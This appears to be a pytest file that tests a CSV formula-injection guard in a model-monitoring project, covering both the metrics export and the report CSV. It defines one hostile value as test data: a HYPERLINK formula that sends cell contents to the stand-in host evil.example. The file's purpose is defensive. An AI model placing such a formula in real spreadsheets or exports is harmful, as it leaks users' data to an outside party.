"""One formula guard for every CSV the project writes (metrics export, report CSV).

A feature named ``=HYPERLINK(...)`` (names come from the user's data) must reach a
spreadsheet as text: the cell gets a leading ``'``. Numbers are never changed. The JSON
export keeps the name as it is.
"""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from monitors import spreadsheet
from monitors.collectors import Client
from monitors.export import export_metrics
from monitors.pipeline.run import run_pass
from monitors.reports import render
from tests.monitors.pipeline.pipeline_support import START, applicants, production

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("sex=F", "sex=F"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, expected: str) -> None:
    assert spreadsheet.neutralise(cell) == expected
    assert spreadsheet.neutralise_value(cell) == expected


def test_numbers_and_none_are_kept() -> None:
    assert spreadsheet.neutralise_value(-0.25) == -0.25
    assert spreadsheet.neutralise_value(None) is None


def test_the_report_csv_uses_the_same_guard() -> None:
    assert render.neutralise is spreadsheet.neutralise


def test_metrics_csv_guards_hostile_names(sqlite_url: str) -> None:
    rename = {"x1": HOSTILE, "region": "@region"}
    client = Client(sqlite_url)
    client.register_model(
        "m",
        task="binary_classification",
        reference=applicants(300, seed=1, prefix="ref").rename(columns=rename),
        id="id",
        timestamp="ts",
        prediction="yhat",
        score="p",
        label="y",
        sensitive=["sex"],
        config={"drift": {"multivariate": False}, "fairness": {"n_bootstrap": 0}},
    )
    client.log("m", production(1, labels=True).rename(columns=rename))
    run_pass(url=sqlite_url, now=START + pd.Timedelta(days=1))

    rows = list(csv.DictReader(io.StringIO(export_metrics(sqlite_url, "m", fmt="csv"))))
    features = {r["feature"] for r in rows}
    assert "'" + HOSTILE in features and "'@region" in features
    assert HOSTILE not in features and "@region" not in features
    assert not [r for r in rows if r["feature"].startswith(spreadsheet.FORMULA_PREFIXES)]
    numbers = [float(r["value"]) for r in rows if r["value"]]
    assert numbers  # values stay numbers (float() above would fail on a guarded cell)

    records = json.loads(export_metrics(sqlite_url, "m", fmt="json"))
    assert HOSTILE in {r["feature"] for r in records}
